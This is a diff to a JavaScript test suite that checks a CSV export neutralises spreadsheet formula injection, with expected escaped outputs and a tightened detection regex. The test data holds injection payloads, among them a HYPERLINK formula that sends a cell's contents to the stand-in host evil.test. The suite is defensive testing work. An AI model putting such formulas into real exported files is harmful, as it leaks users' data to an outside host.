@@ -51,20 +51,24 @@ describe('a cell of a table', () => {
     ['+49151', "'+49151"],
     ['-1', "'-1"],
     ['@SUM(A1)', "'@SUM(A1)"],
-    ['\t=1', "'\t=1"],
-    ['\r=1', "'\r=1"],
-    ['\n=1', "'\n=1"],
+    ['\t=1', "'\t'=1"],
+    ['\r=1', "'\r'=1"],
+    ['\n=1', "'\n'=1"],
     ['＝1+1', "'＝1+1"],
     ['=HYPERLINK("https://evil.test?"&A1,"Click")', '\'=HYPERLINK("https://evil.test?"&A1,"Click")'],
     ['Anna "Ann" O’Hara, Esq.', 'Anna "Ann" O’Hara, Esq.'],
     ['two\r\nlines', 'two\r\nlines'],
     ['a; b', 'a; b'],
+    ['a;=1+1;b', "a;'=1+1;b"],
+    ['a, =1+1', "a, '=1+1"],
+    ['a;" =1+1', 'a;" \'=1+1'],
+    ['two\n@SUM(A1)', "two\n'@SUM(A1)"],
     ['a-b', 'a-b'],
     ['', ''],
   ])('%j is never run by a spreadsheet, and is read as %j', (text, read) => {
     const row = csvRow(['x', text, 1]);
     expect(cellsOf(row)).toEqual([['x', read, '1']]);
-    expect(row).not.toMatch(/(^|,)"?[=+\-@\t\r\n＝]/);
+    expect(row).not.toMatch(/(^|[,;\r\n])["\s]*[=+\-@＝]/);
   });
 });
 
